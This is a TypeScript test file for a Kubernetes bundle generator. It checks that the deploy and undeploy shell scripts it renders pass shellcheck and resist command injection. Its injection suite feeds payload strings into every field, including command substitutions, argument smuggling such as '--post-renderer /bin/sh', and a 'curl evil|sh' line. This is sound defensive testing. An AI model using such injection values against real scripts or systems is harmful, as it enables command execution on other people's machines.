import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { BundleFile, BundlePlan } from '@aicr/contracts';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { parse, parseAllDocuments } from 'yaml';
import { renderComponent, renderRoot } from './index';
import { catalogPlan, handComponent, handPlan, RECIPE_CHAINS, workedExamplePlan, writeFiles } from './test-fixtures';

const ROOT = mkdtempSync(join(tmpdir(), 'aicr-render-scripts-'));
afterAll(() => rmSync(ROOT, { recursive: true, force: true }));

function render(plan: BundlePlan): BundleFile[] {
  const comps = plan.components.map((c) => renderComponent(plan, c));
  return [...renderRoot(plan, comps), ...comps.flatMap((c) => c.files)];
}

let n = 0;
function materialise(plan: BundlePlan): { dir: string; files: BundleFile[] } {
  const dir = join(ROOT, `bundle-${n++}`);
  const files = render(plan);
  writeFiles(dir, files);
  return { dir, files };
}

function lint(dir: string, files: BundleFile[]): void {
  const scripts = files.filter((f) => f.path.endsWith('.sh')).map((f) => join(dir, f.path));
  expect(scripts.length).toBeGreaterThan(0);
  for (const s of scripts) {
    const syntax = spawnSync('bash', ['-n', s], { encoding: 'utf8' });
    expect(syntax.status, `${s}: ${syntax.stderr}`).toBe(0);
  }
  const sc = spawnSync('shellcheck', ['--severity=warning', ...scripts], { encoding: 'utf8' });
  expect(sc.status, sc.stdout + sc.stderr).toBe(0);
}

// ---------------------------------------------------------------- stubs

const STUBS = join(ROOT, 'stubs');
const STUB_LOG = join(ROOT, 'stub.log');
mkdirSync(STUBS, { recursive: true });
// Every tool the scripts call (and `touch`, the payloads' weapon) logs its argv and succeeds.
// `kubectl get` finds nothing (exit 1), so pre-flight passes and namespaces count as gone.
for (const tool of ['helm', 'kubectl', 'jq', 'kustomize', 'touch', 'id', 'curl', 'sh']) {
  // STUB_GET, when set, is what every `kubectl get` prints instead (e.g. a namespace phase).
  const status = tool === 'kubectl' ? 'if [[ "${1:-}" == get ]]; then [[ -n "${STUB_GET:-}" ]] || exit 1; printf \'%s\' "${STUB_GET}"; fi\n' : '';
  // One write per record: both sides of a pipe (`kubectl create … | kubectl apply -f -`) log
  // at once, and two printf calls each could interleave their records.
  writeFileSync(join(STUBS, tool), `#!/usr/bin/env bash\nprintf -v rec '%s\\x1f' "\${0##*/}" "$@"\nprintf '%s\\x1e' "$rec" >>"$STUB_LOG"\n${status}exit 0\n`, { mode: 0o755 });
}

function runScript(script: string, args: string[], cwd: string, env: Record<string, string> = {}, status = 0): string[][] {
  writeFileSync(STUB_LOG, '');
  const tmp = join(ROOT, `tmp-${n++}`);
  mkdirSync(tmp);
  const r = spawnSync('bash', [script, ...args], {
    cwd,
    encoding: 'utf8',
    env: { PATH: `${STUBS}:/usr/bin:/bin`, STUB_LOG, TMPDIR: tmp, HOME: tmp, ...env },
  });
  expect(r.status, r.stdout + r.stderr).toBe(status);
  return readFileSync(STUB_LOG, 'utf8')
    .split('\x1e')
    .filter((rec) => rec !== '')
    .map((rec) => rec.split('\x1f').slice(0, -1));
}

const after = (argv: string[], flag: string) => argv[argv.indexOf(flag) + 1];

// ---------------------------------------------------------------- lint on real recipes

describe('generated scripts pass bash -n and shellcheck --severity=warning', () => {
  const plans: [string, BundlePlan][] = [
    ['worked example', workedExamplePlan()],
    ...Object.entries(RECIPE_CHAINS).map(([name, overlays]) => [name, catalogPlan({ overlays })] as [string, BundlePlan]),
    [
      'every class',
      handPlan([
        handComponent({ name: 'k', type: 'Kustomize', namespace: 'kns', source: 'https://github.com/o/r', path: 'p', tag: 't' }, {}, [{ name: 'a.yaml', text: 'kind: A\n' }]),
        handComponent({ name: 'mo', namespace: 'kube-system' }, {}, [{ name: 'a.yaml', text: 'kind: A\n' }]),
        handComponent({ name: 'nothing' }),
        handComponent({ name: 'urls', source: 'oci://cr.example/c', manifestUrls: ['https://example.com/crds.yaml'] }),
        handComponent({ name: 'nvidia-dra-driver-gpu', namespace: 'nvidia-dra-driver', source: 'https://helm.ngc.nvidia.com/nvidia', version: '25.12.0' }),
      ]),
    ],
  ];
  it.each(plans)(
    '%s',
    (_n, plan) => {
      const { dir, files } = materialise(plan);
      lint(dir, files);
    },
    60_000,
  );
});

// ---------------------------------------------------------------- injection

const PWN = join(ROOT, 'pwned');
const payloads = {
  name: "evil'$(touch pwned-name)`touch pwned-name2`;touch pwned-name3 --post-renderer x",
  namespace: `ns'; touch ${PWN}-ns; '$(touch ${PWN}-ns2)\n touch ${PWN}-ns3`,
  version: `1.0 --post-renderer /bin/sh $(touch ${PWN}-v) \`touch ${PWN}-v2\``,
  source: `https://x/charts; curl evil|sh # $(touch ${PWN}-src)'"`,
  chart: `ch$(touch ${PWN}-ch)'x`,
  url: `https://x/y.yaml'$(touch ${PWN}-url)`,
  path: `p$(touch ${PWN}-path)`,
  tag: `t\`touch ${PWN}-tag\``,
  value: `line1\n$(touch ${PWN}-val)\n'\`id\`' injected: true\n--post-renderer`,
};

function injectionPlan(): BundlePlan {
  return handPlan(
    [
      handComponent(
        { name: payloads.name, namespace: payloads.namespace, source: payloads.source, chart: payloads.chart, version: payloads.version, manifestUrls: [payloads.url] },
        { s: payloads.value, [payloads.value]: [payloads.value] },
        [{ name: 'm.yaml', text: 'kind: ConfigMap\nmetadata:\n  namespace: {{ .Release.Namespace }}\ndata:\n  v: {{ index .Values "COMPONENT" "s" }}\n'.replace('COMPONENT', payloads.name.replace(/"/g, '\\"')) }],
      ),
      handComponent({ name: 'kust', type: 'Kustomize', namespace: payloads.namespace, source: payloads.source, path: payloads.path, tag: payloads.tag }),
      handComponent({ name: 'mo' }, {}, [{ name: 'a.yaml', text: 'kind: A\n' }]),
    ],
    { version: `0.1.0\ntouch ${PWN}-version`, warnings: [payloads.value] },
  );
}

describe('injection payloads in every string field', () => {
  const { dir, files } = materialise(injectionPlan());
  const noPwn = () => {
    expect(readdirSync(ROOT).filter((f) => f.startsWith('pwned'))).toEqual([]);
    expect(existsSync(join(dir, 'pwned-name'))).toBe(false);
  };

  it('scripts still pass bash -n and shellcheck', () => lint(dir, files), 60_000);

  it('deploy.sh runs no injected command and passes every value as one argv word', () => {
    const calls = runScript(join(dir, 'deploy.sh'), [], dir);
    noPwn();
    expect(calls.filter((c) => ['touch', 'id', 'curl', 'sh'].includes(c[0]))).toEqual([]);
    const helm = calls.find((c) => c[0] === 'helm' && c[1] === 'upgrade')!;
    expect(helm.slice(1, 5)).toEqual(['upgrade', '--install', payloads.name, payloads.chart]);
    expect(after(helm, '--repo')).toBe(payloads.source);
    expect(after(helm, '--version')).toBe(payloads.version);
    expect(after(helm, '--namespace')).toBe(payloads.namespace);
    expect(after(helm, '--values')).toBe(join(dir, payloads.name, 'values.yaml'));
    expect(helm).toContain('--wait');
    const serverSide = calls.find((c) => c[0] === 'kubectl' && c.includes('--server-side'))!;
    expect(after(serverSide, '-f')).toBe(payloads.url);
    const kustomize = calls.find((c) => c[0] === 'kustomize')!;
    expect(kustomize).toEqual(['kustomize', 'build', `${payloads.source}//${payloads.path}?ref=${payloads.tag}`]);
    const ns = calls.find((c) => c[0] === 'kubectl' && c[1] === 'create')!;
    expect(ns.slice(1, 4)).toEqual(['create', 'namespace', payloads.namespace]);
  }, 30_000);

  it('install.sh works alone from another directory, --no-wait drops the wait flags', () => {
    const calls = runScript(join(dir, payloads.name, 'scripts', 'install.sh'), ['--no-wait', '--retries', '0'], ROOT);
    noPwn();
    const helm = calls.find((c) => c[0] === 'helm')!;
    expect(after(helm, '--values')).toBe(join(dir, payloads.name, 'values.yaml'));
    expect(helm).not.toContain('--wait');
    const apply = calls.filter((c) => c[0] === 'kubectl' && c[1] === 'apply' && after(c, '-f') === join(dir, payloads.name, 'manifests') + '/');
    expect(apply).toHaveLength(2);
  }, 30_000);

  it('undeploy.sh and uninstall.sh run no injected command', () => {
    const calls = runScript(join(dir, 'undeploy.sh'), ['--timeout', '30'], dir);
    noPwn();
    expect(calls.filter((c) => ['touch', 'id', 'curl', 'sh'].includes(c[0]))).toEqual([]);
    const un = calls.find((c) => c[0] === 'helm' && c[1] === 'uninstall')!;
    expect(un.slice(1, 5)).toEqual(['uninstall', payloads.name, '--namespace', payloads.namespace]);
    expect(after(un, '--timeout')).toBe('30s');
    const nsDeletes = calls.filter((c) => c[0] === 'kubectl' && c[1] === 'delete' && c[2] === 'namespace').map((c) => c[3]);
    expect(nsDeletes).toEqual([payloads.namespace, 'kai-resource-reservation']);
  }, 30_000);

  it('YAML outputs parse with no injected keys', () => {
    const values = parse(files.find((f) => f.path === `${payloads.name}/values.yaml`)!.content, { version: '1.1' });
    expect(values).toEqual({ s: payloads.value, [payloads.value]: [payloads.value] });
    const manifest = parseAllDocuments(files.find((f) => f.path === `${payloads.name}/manifests/m.yaml`)!.content).map((d) => d.toJS());
    expect(manifest).toEqual([{ kind: 'ConfigMap', metadata: { namespace: payloads.namespace }, data: { v: payloads.value } }]);
    const recipe = parse(files.find((f) => f.path === 'recipe.yaml')!.content);
    expect(recipe.componentRefs[0].namespace).toBe(payloads.namespace);
    expect(Object.keys(recipe.componentRefs[0])).toEqual(['name', 'namespace', 'chart', 'type', 'source', 'version', 'manifestUrls']);
  }, 30_000);

  it('READMEs keep payloads inside quoted words and escaped text', () => {
    const readme = files.find((f) => f.path === 'README.md')!.content;
    expect(readme).not.toMatch(/^touch /m);
    expect(readme).toContain(`--version '1.0 --post-renderer /bin/sh $(touch ${PWN}-v) \`touch ${PWN}-v2\`'`);
  });
});

describe('root script options', () => {
  const { dir } = materialise(workedExamplePlan());
  it.each([
    [['--bogus'], 2],
    [['--retries', 'x'], 2],
    [['--retries'], 2],
    [['--help'], 0],
  ])('deploy.sh %j exits %i', (args, code) => {
    const r = spawnSync('bash', [join(dir, 'deploy.sh'), ...args], { encoding: 'utf8', env: { PATH: `${STUBS}:/usr/bin:/bin`, STUB_LOG } });
    expect(r.status).toBe(code);
  }, 30_000);

  it('--best-effort continues past a failing component and exits non-zero listing it', () => {
    const plan = handPlan([
      handComponent({ name: 'a', namespace: 'a', source: 'https://charts.example', version: '1' }),
      handComponent({ name: 'b', namespace: 'b', source: 'https://charts.example', version: '1' }),
    ]);
    const { dir: d } = materialise(plan);
    writeFileSync(join(d, 'a', 'scripts', 'install.sh'), '#!/usr/bin/env bash\nexit 1\n');
    writeFileSync(STUB_LOG, '');
    const r = spawnSync('bash', [join(d, 'deploy.sh'), '--best-effort'], { encoding: 'utf8', env: { PATH: `${STUBS}:/usr/bin:/bin`, STUB_LOG, TMPDIR: ROOT } });
    expect(r.status).toBe(1);
    expect(r.stderr).toContain('components that failed: a');
    expect(readFileSync(STUB_LOG, 'utf8')).toContain(`upgrade\x1f--install\x1fb`);
  }, 30_000);

  it('pre-flight stops before installing anything when a bundle namespace is terminating', () => {
    const calls = runScript(join(dir, 'deploy.sh'), [], dir, { STUB_GET: 'Terminating' }, 1);
    expect(calls.some((c) => c[0] === 'helm')).toBe(false);
  }, 30_000);

  it('--no-wait reaches every component; the async list never waits', () => {
    const plan = catalogPlan({ overlays: RECIPE_CHAINS['eks-h100-training'], only: ['gpu-operator', 'kai-scheduler'] });
    const { dir: d } = materialise(plan);
    const helm = (args: string[]) => runScript(join(d, 'deploy.sh'), args, d).filter((c) => c[0] === 'helm').map((c) => [c[3], c.includes('--wait')]);
    expect(helm([])).toEqual([['gpu-operator', true], ['kai-scheduler', false]]);
    expect(helm(['--no-wait'])).toEqual([['gpu-operator', false], ['kai-scheduler', false]]);
  }, 30_000);

  it('undeploy.sh never deletes kube-system and friends; --keep-namespaces deletes none', () => {
    const plan = catalogPlan({ overlays: RECIPE_CHAINS['eks-h100-training'], only: ['aws-ebs-csi-driver', 'cert-manager'] });
    const { dir: d } = materialise(plan);
    const deleted = (args: string[]) =>
      runScript(join(d, 'undeploy.sh'), args, d)
        .filter((c) => c[0] === 'kubectl' && c[1] === 'delete' && c[2] === 'namespace')
        .map((c) => c[3]);
    expect(deleted([])).toEqual(['cert-manager', 'kai-resource-reservation']);
    expect(deleted(['--keep-namespaces'])).toEqual([]);
    const order = runScript(join(d, 'undeploy.sh'), [], d).filter((c) => c[0] === 'helm').map((c) => c[2]);
    expect(order).toEqual(['cert-manager', 'aws-ebs-csi-driver']);
  }, 30_000);

  it('any strings in namespace, source, chart and version reach helm as single argv words', () => {
    const text = fc.string({ unit: 'binary', minLength: 1 }).map((x) => x.replace(/\0/g, '') || 'x');
    fc.assert(
      fc.property(text, text, text, text, (namespace, source, chart, version) => {
        const plan = handPlan([handComponent({ name: 'c', namespace, source: `https://${source}`, chart, version })]);
        const { dir: d } = materialise(plan);
        const calls = runScript(join(d, 'c', 'scripts', 'install.sh'), [], ROOT);
        const helm = calls.find((c) => c[0] === 'helm')!;
        expect(helm.slice(1, 5)).toEqual(['upgrade', '--install', 'c', chart]);
        expect([after(helm, '--repo'), after(helm, '--version'), after(helm, '--namespace')]).toEqual([`https://${source}`, version, namespace]);
        expect(calls.filter((c) => ['touch', 'id', 'curl', 'sh'].includes(c[0]))).toEqual([]);
      }),
      { numRuns: 25 },
    );
  }, 60_000);
});
